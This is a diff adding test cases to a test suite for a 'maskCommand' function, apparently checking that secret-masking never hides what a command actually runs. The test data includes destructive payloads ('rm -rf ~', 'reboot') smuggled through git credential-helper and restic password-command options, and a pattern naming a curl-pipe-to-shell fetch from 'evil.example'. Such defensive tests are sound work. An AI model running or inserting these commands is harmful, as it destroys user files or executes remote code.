@@ -158,6 +158,10 @@ describe("maskCommand", () => {
     "TOKEN= reboot",
     "bash -c 'TOKEN=bearer reboot'",
     "eval {TOKEN=hunter2,reboot}",
+    "git -c credential.helper='!rm -rf ~' fetch",
+    "RESTIC_PASSWORD_COMMAND='rm -rf ~' restic ls",
+    "restic --password-command 'rm -rf ~' ls",
+    "--token-command=reboot",
   ])("never hides what %j runs", (command) => {
     const code = command.match(/rm -rf ~|reboot|curl https:\/\/evil\.example \| sh/)?.[0];
     expect(maskCommand(command)).toContain(code ?? "nothing");
